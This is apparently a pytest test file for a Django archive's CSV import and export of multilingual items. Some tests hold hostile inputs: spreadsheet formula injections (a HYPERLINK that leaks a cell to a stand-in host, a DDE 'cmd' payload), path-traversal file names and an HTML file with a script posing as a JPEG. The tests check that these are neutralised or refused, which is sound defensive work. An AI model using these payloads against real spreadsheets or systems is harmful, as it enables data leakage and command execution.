import csv
import io
from datetime import date

import pytest
from django.core.management import CommandError, call_command

from archive.models import Agent, ChangeRecord, Item, Language, Place
from archive.exporting import items_export
from archive.importing import items_import
from tests.factories import add_agent, make_collection, make_item, make_place, make_subject

pytestmark = pytest.mark.django_db

HEADER = ["accession_number", "kind", "status", "title", "title_th", "title_my", "title_km", "title_lo",
          "description", "description_th", "date", "places", "agents", "subjects", "tags", "languages", "rights",
          "licence", "access", "collection"]


def write_csv(folder, rows, *, header=HEADER, name="items.csv", bom=False, newline="\n"):
    """Write rows (dicts or lists) the way a spreadsheet would; returns the path."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=newline)
    writer.writerow(header)
    for row in rows:
        writer.writerow([row.get(column, "") for column in header] if isinstance(row, dict) else row)
    path = folder / name
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + buffer.getvalue().encode("utf-8"))
    return path


def good_row(**cells):
    return {"accession_number": "MLA-0001", "kind": "oral_history", "status": "published", "title": "Fishing boat",
            "access": "public", **cells}


@pytest.fixture
def vocabulary():
    return {"collection": make_collection(slug="samut-sakhon", title="Samut Sakhon fisheries"),
            "subject": make_subject(slug="fishing", title="Fishing", title_th="การประมง")}


def test_import_creates_items_in_every_script(tmp_path, vocabulary):
    path = write_csv(tmp_path, [good_row(
        title_th="เรือประมง", title_my="ငါးဖမ်းလှေ", title_km="ទូកនេសាទ", title_lo="ເຮືອຫາປາ",
        description="A boat.\nSecond line.", description_th="เรือลำหนึ่ง", date="199X",
        places="Thailand > Samut Sakhon > Mueang; Myanmar", agents="narrator: Ko Min; interviewer: A. Staff",
        subjects="fishing; การประมง", tags="boats; เรือ", languages="MYA; tha; shn", rights="InC-EDU",
        licence="cc-by-nc-4.0", access="embargoed:2030-01-31", collection="samut-sakhon")])

    report = items_import(path=path, dry_run=False, by=None)

    assert report.ok, report.errors
    assert (report.created, report.updated) == (1, 0)
    item = Item.objects.get(accession_number="MLA-0001")
    assert (item.title_th, item.title_my, item.title_km, item.title_lo) == (
        "เรือประมง", "ငါးဖမ်းလှေ", "ទូកនេសាទ", "ເຮືອຫາປາ")
    assert item.description == "A boat.\nSecond line."
    assert (item.date_lower, item.date_upper) == (date(1990, 1, 1), date(1999, 12, 31))
    assert sorted(place.path() for place in item.places.all()) == ["Myanmar", "Thailand > Samut Sakhon > Mueang"]
    assert [p.kind for p in make_place("Thailand > Samut Sakhon > Mueang").ancestors()] == ["country", "province"]
    assert [str(link) for link in item.item_agents.all()] == ["narrator: Ko Min", "interviewer: A. Staff"]
    assert list(item.subjects.all()) == [vocabulary["subject"]]
    assert sorted(item.tags.names()) == ["boats", "เรือ"]
    assert sorted(item.languages.values_list("code", flat=True)) == ["mya", "shn", "tha"]
    assert item.rights == Item.Rights.IN_COPYRIGHT_EDU and item.licence == "CC-BY-NC-4.0"
    assert (item.access, item.embargo_until) == ("embargoed", date(2030, 1, 31))
    assert item.collection == vocabulary["collection"]
    sources = set(ChangeRecord.objects.filter(object_id=str(item.pk), model="archive.item")
                  .values_list("source", flat=True))
    assert sources == {"import"}
    places_change = ChangeRecord.objects.get(model="archive.item", field="places")
    assert places_change.new_value == "Myanmar; Thailand > Samut Sakhon > Mueang"


def test_bom_crlf_and_line_breaks_inside_quoted_cells(tmp_path):
    rows = [good_row(accession_number="A-1", description="line one\r\nline two\r\nline three"),
            good_row(accession_number="A-2", title="ເຮືອ", date="1995-13")]
    path = write_csv(tmp_path, rows, bom=True, newline="\r\n")

    report = items_import(path=path, dry_run=False, by=None)

    # Header on line 1, A-1 on lines 2-4, A-2 on line 5.
    assert [str(error) for error in report.errors] == [
        "line 5, column date: invalid date: “1995-13”: there is no month 13"]
    assert Item.objects.count() == 0

    path = write_csv(tmp_path, rows[:1], bom=True, newline="\r\n")
    assert items_import(path=path, dry_run=False, by=None).ok
    assert Item.objects.get().description == "line one\r\nline two\r\nline three"


def test_old_mac_line_ends_are_lines_too(tmp_path):
    path = write_csv(tmp_path, [good_row(), good_row(accession_number="A-2", kind="film strip")], newline="\r")
    report = items_import(path=path, dry_run=True, by=None)
    assert [(e.line, e.column) for e in report.errors] == [(3, "kind")]


@pytest.mark.parametrize(("column", "value", "reason"), [
    ("kind", "painting", "unknown kind “painting”"),
    ("status", "done", "unknown status “done”"),
    ("title", "", "the English title is empty"),
    ("date", "15/03/2001", "invalid date"),
    ("date", "๒๕๓๘", "invalid date"),
    ("access", "secret", "unknown access “secret”"),
    ("access", "", "unknown access"),
    ("access", "embargoed", "an embargo needs the day it ends"),
    ("access", "embargoed:2027-02-30", "2027-02-30 is not a day of the calendar"),
    ("places", "Thailand >  > Mae Sot", "has an empty part"),
    ("agents", "Ko Min", "is not “role: Name”"),
    ("agents", "cook: Ko Min", "unknown role “cook”"),
    ("subjects", "ประมง; fishing", "subject “ประมง”: unknown, on line 3"),
    ("languages", "tha; burmese", "unknown language “burmese”"),
    ("rights", "public domain", "unknown rights statement"),
    ("licence", "GPL", "unknown licence “GPL”"),
    ("collection", "nowhere", "collection “nowhere”: unknown, on line 3"),
    ("accession_number", "", "the accession number is empty"),
    ("accession_number", "X" * 65, "longer than 64 characters"),
])
def test_each_bad_cell_is_reported_with_line_column_and_reason(tmp_path, vocabulary, column, value, reason):
    path = write_csv(tmp_path, [good_row(accession_number="OK-1"), good_row(**{column: value})])

    report = items_import(path=path, dry_run=False, by=None)

    assert not report.ok
    assert [(error.line, error.column) for error in report.errors] == [(3, column)]
    assert reason in report.errors[0].reason
    assert Item.objects.count() == 0 and Place.objects.count() == 0 and Agent.objects.count() == 0


def test_every_bad_row_is_reported_counting_multiline_cells(tmp_path):
    rows = [good_row(accession_number="A-1", kind="statue"),
            good_row(accession_number="A-2", description="ကျွန်တော်\nရေလုပ်သား\nပါ"),
            good_row(accession_number="A-3", date="2001-02-30", access="open"),
            good_row(accession_number="A-1")]
    path = write_csv(tmp_path, rows)

    report = items_import(path=path, dry_run=False, by=None)

    assert [(e.line, e.column) for e in report.errors] == [
        (2, "kind"), (6, "date"), (6, "access"), (7, "accession_number")]
    assert report.errors[-1].reason == "duplicate accession number “A-1”: also on line 2"
    assert "nothing was imported" in report.summary()
    assert Item.objects.count() == 0


def test_unknown_and_duplicate_columns_are_errors(tmp_path):
    path = write_csv(tmp_path, [["A-1", "film", "Film", "x", "y"]],
                     header=["accession_number", "kind", "title", "titel", "Title "])
    report = items_import(path=path, dry_run=False, by=None)
    assert [(e.line, e.column) for e in report.errors] == [(1, "titel"), (1, "title")]
    assert "unknown column" in report.errors[0].reason and "appears twice" in report.errors[1].reason
    assert Item.objects.count() == 0


def test_missing_accession_column_and_empty_file(tmp_path):
    report = items_import(path=write_csv(tmp_path, [["film", "Film"]], header=["kind", "title"]), dry_run=True)
    assert [(e.line, e.column, e.reason) for e in report.errors] == [(1, "accession_number", "the column is required")]
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"\xef\xbb\xbf\r\n")
    assert "the file is empty" in str(items_import(path=empty, dry_run=True).errors[0])


def test_a_file_that_is_not_utf8_is_reported_at_its_line(tmp_path):
    path = tmp_path / "legacy.csv"
    thai_in_windows_874 = "เรือ".encode("cp874")
    path.write_bytes(b"accession_number,kind,title\r\nA-1,film,Boat\r\nA-2,film," + thai_in_windows_874 + b"\r\n")
    report = items_import(path=path, dry_run=False, by=None)
    assert [str(e) for e in report.errors] == ["line 3: this line is not UTF-8 text; save the file as “CSV UTF-8”"]
    assert Item.objects.count() == 0


def test_rows_with_extra_cells_or_broken_quotes(tmp_path):
    path = write_csv(tmp_path, [["A-1", "film", "Boat", "surplus"], ["A-2", "film", "Net", "", ""]],
                     header=["accession_number", "kind", "title"])
    report = items_import(path=path, dry_run=True)
    assert [(e.line, e.reason) for e in report.errors] == [(2, "this row has 4 cells but the header names 3 columns")]

    broken = tmp_path / "broken.csv"
    broken.write_text('accession_number,kind,title\nA-1,film,"Boat" hull\n', encoding="utf-8")
    report = items_import(path=broken, dry_run=True)
    assert report.errors[0].line == 2 and "quoting is broken" in report.errors[0].reason


def test_a_new_item_needs_kind_and_title_columns(tmp_path):
    make_item(accession_number="OLD-1", title="Old")
    path = write_csv(tmp_path, [["OLD-1", "staff"], ["NEW-1", "staff"]], header=["accession_number", "access"])
    report = items_import(path=path, dry_run=False, by=None)
    assert [(e.line, e.column) for e in report.errors] == [(3, "kind"), (3, "title")]


def test_dry_run_checks_everything_and_writes_nothing(tmp_path, vocabulary):
    path = write_csv(tmp_path, [good_row(places="Laos > Vientiane", agents="donor: Mae Noi", languages="lao",
                                         tags="ແຮງງານ")])
    changes = ChangeRecord.objects.count()

    report = items_import(path=path, dry_run=True, by=None)

    assert report.ok and report.dry_run and report.created == 1
    # An oral history with no consent on file: imported, but not public, and the summary says so.
    assert report.summary() == ("1 item(s) would be created, 0 would be updated; 1 of them will not be on the "
                                "public site (see why on each row).")
    assert (Item.objects.count(), Place.objects.count(), Agent.objects.count()) == (0, 0, 0)
    assert Language.objects.count() == 0
    assert ChangeRecord.objects.count() == changes


def test_reimport_updates_by_accession_number_and_records_history(tmp_path, vocabulary, staff_user):
    first = write_csv(tmp_path, [good_row(title_km="ទូក", places="Thailand > Tak", agents="narrator: Ko Min",
                                          tags="boats")])
    assert items_import(path=first, dry_run=False, by=staff_user).ok
    item = Item.objects.get()

    again = items_import(path=first, dry_run=False, by=staff_user)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 1)

    second = write_csv(tmp_path, [good_row(title_km="ទូកនេសាទ", places="Thailand > Tak > Mae Sot",
                                           agents="narrator: Ko Min; translator: Ma Aye", tags="boats",
                                           status="withdrawn")], name="second.csv")
    report = items_import(path=second, dry_run=False, by=staff_user)

    assert report.ok and (report.created, report.updated) == (0, 1)
    assert Item.objects.count() == 1
    item.refresh_from_db()
    assert (item.title_km, item.status) == ("ទូកនេសាទ", "withdrawn")
    changes = {c.field: c for c in ChangeRecord.objects.filter(model="archive.item", object_id=str(item.pk),
                                                               action="update").order_by("at", "pk")}
    assert changes["title_km"].old_value == "ទូក" and changes["title_km"].source == "import"
    assert changes["title_km"].user == staff_user
    assert changes["places"].old_value == "Thailand > Tak"
    assert (changes["agents"].old_value, changes["agents"].new_value) == (None, "translator: Ma Aye")
    assert ChangeRecord.objects.filter(field="tags").count() == 1  # set on creation, unchanged since


def test_absent_columns_leave_fields_alone_on_update(tmp_path):
    item = make_item(accession_number="KEEP-1", title="Keep", title_th="เก็บ", date="1995")
    path = write_csv(tmp_path, [["KEEP-1", "staff"]], header=["accession_number", "access"])
    assert items_import(path=path, dry_run=False, by=None).ok
    item.refresh_from_db()
    assert (item.title_th, item.date, item.access) == ("เก็บ", "1995", "staff")


def test_export_then_import_is_a_round_trip(tmp_path, vocabulary):
    item = make_item(accession_number="RT-1", kind="film", title="Nets", title_my="ပိုက်ကွန်", title_lo="ມອງ",
                     description="Two\nlines, \"quoted\"; semicolon", date="2003-05", access="embargoed",
                     embargo_until=date(2031, 5, 1), licence="CC-BY-4.0", collection=vocabulary["collection"])
    item.places.add(make_place("Thailand > Ranong"), make_place("Myanmar > Tanintharyi > Kawthaung"))
    add_agent(item, Agent.objects.create(display_name="Ko Min"), role="filmmaker")
    add_agent(item, Agent.objects.create(display_name="ນາງ ແກ້ວ"), role="translator")
    item.subjects.add(vocabulary["subject"])
    item.tags.add("nets", "ตาข่าย")
    item.languages.add(Language.for_code("mya"))
    make_item(accession_number="RT-2", kind="document", title="Pay slip", status="draft", access="staff")
    first = tmp_path / "first.csv"
    assert items_export(out=first) == 2
    assert first.read_bytes().startswith(b"\xef\xbb\xbf")

    unchanged = items_import(path=first, dry_run=False, by=None)
    assert (unchanged.updated, unchanged.unchanged) == (0, 2)

    Item.objects.all().delete()
    report = items_import(path=first, dry_run=False, by=None)
    assert report.ok and report.created == 2
    second = tmp_path / "second.csv"
    items_export(out=second)
    assert second.read_bytes() == first.read_bytes()


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def exported_cells(path):
    with open(path, encoding="utf-8-sig", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def test_export_neutralises_formulas_and_import_restores_the_exact_text(tmp_path, vocabulary):
    titles = {
        "F-1": '=HYPERLINK("http://example.com/?leak="&A1,"ดูภาพ")',
        "F-2": "@SUM(1+1)*cmd|' /C calc'!A0",
        "F-3": "+66 81 234 5678",
        "F-4": "-20 degrees on the night boat",
        "F-5": "'quoted' in the narrator's words",
        "F-6": "''two apostrophes",
        "F-7": "'=an apostrophe, then an equals sign",
        "F-8": "Tab\tinside is fine",
    }
    for accession, title in titles.items():
        make_item(accession_number=accession, title=title, title_th="เรือประมง", title_my="=ငါးဖမ်းလှေ",
                  description="=1+2\nsecond line", date="1995")
    Item.objects.get(accession_number="F-1").tags.add("@home", "ท่าเรือ")
    Item.objects.get(accession_number="F-2").places.add(make_place("-Khlong > Mae Sot"))
    make_item(accession_number="=1+1", title="An accession number that looks like a formula")
    first = tmp_path / "first.csv"
    items_export(out=first)

    cells = exported_cells(first)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'" + titles["F-1"] in cells and "'" + titles["F-5"] in cells and "'=1+1" in cells
    assert "เรือประมง" in cells and "'=ငါးဖမ်းလှေ" in cells and titles["F-8"] in cells
    before = {item.accession_number: (item.title, item.title_th, item.title_my, item.description, item.date,
                                      sorted(item.tags.names()), [place.path() for place in item.places.all()])
              for item in Item.objects.all()}

    Item.objects.all().delete()
    report = items_import(path=first, dry_run=False, by=None)

    assert report.ok, report.errors
    after = {item.accession_number: (item.title, item.title_th, item.title_my, item.description, item.date,
                                     sorted(item.tags.names()), [place.path() for place in item.places.all()])
             for item in Item.objects.all()}
    assert after == before
    second = tmp_path / "second.csv"
    items_export(out=second)
    assert second.read_bytes() == first.read_bytes()


def test_a_hand_written_apostrophe_is_kept_unless_it_guards_a_formula(tmp_path):
    path = write_csv(tmp_path, [good_row(accession_number="H-1", title="'Tis the season", title_th="'เรือ"),
                                good_row(accession_number="H-2", title="'=1+1", title_th="''ท่าเรือ")])
    assert items_import(path=path, dry_run=False, by=None).ok
    assert list(Item.objects.order_by("accession_number").values_list("title", "title_th")) == [
        ("'Tis the season", "'เรือ"), ("=1+1", "'ท่าเรือ")]


def test_import_command_exits_non_zero_and_lists_every_error(tmp_path, capsys):
    path = write_csv(tmp_path, [good_row(kind="x"), good_row(accession_number="B", date="soon")])
    with pytest.raises(CommandError, match="2 problem"):
        call_command("import_items", str(path))
    err = capsys.readouterr().err
    assert "line 2, column kind: unknown kind “x”" in err and "line 3, column date" in err
    with pytest.raises(CommandError, match="no such file"):
        call_command("import_items", str(tmp_path / "nope.csv"))


def test_import_and_export_commands(tmp_path, capsys):
    path = write_csv(tmp_path, [good_row(title_th="แรงงาน")])
    call_command("import_items", str(path), "--dry-run")
    assert "1 item(s) would be created" in capsys.readouterr().out
    assert Item.objects.count() == 0
    call_command("import_items", str(path))
    assert "1 item(s) were created" in capsys.readouterr().out
    out = tmp_path / "out.csv"
    call_command("export_items", str(out))
    assert "แรงงาน" in out.read_text(encoding="utf-8-sig")


def make_jpeg(path, colour="teal"):
    from PIL import Image

    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (32, 24), colour).save(path, "JPEG")
    return path


def stored_files(root):
    return sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file()) if root.exists() else []


def test_media_files_with_thai_names_are_ingested_once(tmp_path, settings):
    folder = tmp_path / "sheet"
    make_jpeg(folder / "ภาพถ่าย" / "เรือประมง.jpg")
    make_jpeg(folder / "ငါး.jpg", "orange")
    path = write_csv(folder, [good_row(kind="photograph", media_files="ภาพถ่าย/เรือประมง.jpg; ငါး.jpg")],
                     header=[*HEADER, "media_files"])

    report = items_import(path=path, dry_run=False, by=None)

    assert report.ok, report.errors
    assert report.files_added == 2
    item = Item.objects.get()
    assert [(a.original_name, a.mime_type) for a in item.assets.order_by("position")] == [
        ("เรือประมง.jpg", "image/jpeg"), ("ငါး.jpg", "image/jpeg")]
    assert len(stored_files(settings.PRIVATE_MEDIA_ROOT)) == 2

    again = items_import(path=path, dry_run=False, by=None)
    assert (again.unchanged, again.files_added) == (1, 0)
    assert item.assets.count() == 2

    # An export names the files the item already has, so importing it again needs none of them on disk.
    exported = tmp_path / "export.csv"
    items_export(out=exported)
    assert "เรือประมง.jpg; ငါး.jpg" in exported.read_text(encoding="utf-8-sig")
    assert items_import(path=exported, dry_run=False, by=None).unchanged == 1


def test_missing_or_escaping_media_files_are_row_errors(tmp_path):
    folder = tmp_path / "sheet"
    folder.mkdir()
    (folder / "subfolder").mkdir()
    make_jpeg(tmp_path / "outside.jpg")
    path = write_csv(folder, [good_row(accession_number="M-1", media_files="ไม่มี.jpg"),
                              good_row(accession_number="M-2", media_files="../outside.jpg"),
                              good_row(accession_number="M-3", media_files="/etc/hostname"),
                              good_row(accession_number="M-4", media_files="subfolder")],
                     header=[*HEADER, "media_files"])

    report = items_import(path=path, dry_run=False, by=None)

    assert [(e.line, e.column, e.reason) for e in report.errors] == [
        (2, "media_files", "media file “ไม่มี.jpg” is missing"),
        (3, "media_files", "“../outside.jpg” points outside the CSV file's folder"),
        (4, "media_files", "“/etc/hostname” is an absolute path; media files are named relative to the CSV file"),
        (5, "media_files", "media file “subfolder” is a folder, not a file"),
    ]
    assert Item.objects.count() == 0


def test_a_refused_file_rolls_back_the_whole_import_and_leaves_no_files(tmp_path, settings):
    folder = tmp_path / "sheet"
    make_jpeg(folder / "good.jpg")
    (folder / "หน้าเว็บ.jpg").write_text("<html><script>alert(1)</script></html>", encoding="utf-8")
    path = write_csv(folder, [good_row(accession_number="R-1", kind="photograph", media_files="good.jpg",
                                       places="Cambodia > Battambang", agents="photographer: Srey Pov"),
                              good_row(accession_number="R-2", kind="photograph", media_files="หน้าเว็บ.jpg")],
                     header=[*HEADER, "media_files"])

    report = items_import(path=path, dry_run=False, by=None)

    assert not report.ok
    assert [(e.line, e.column) for e in report.errors] == [(3, "media_files")]
    assert "“หน้าเว็บ.jpg” was refused: This is an HTML document" in report.errors[0].reason
    assert (Item.objects.count(), Place.objects.count(), Agent.objects.count()) == (0, 0, 0)
    assert ChangeRecord.objects.count() == 0
    assert stored_files(settings.PRIVATE_MEDIA_ROOT) == []


def test_the_example_in_the_format_guide_is_valid(tmp_path, settings):
    guide = (settings.BASE_DIR / "docs" / "csv.md").read_text(encoding="utf-8")
    example = guide.split("```csv\n", 1)[1].split("```", 1)[0]
    (tmp_path / "items.csv").write_text(example, encoding="utf-8")
    for name in ("สัมภาษณ์/โกมิน.m4a", "สัมภาษณ์/โกมิน.vtt", "ภาพถ่าย/ตากอวน.jpg"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_bytes(b"placeholder: a dry run only checks that the file is there")
    make_collection(slug="fisheries")
    make_subject(slug="fishing")

    report = items_import(path=tmp_path / "items.csv", dry_run=True, by=None)

    assert report.ok, report.errors
    assert report.created == 2
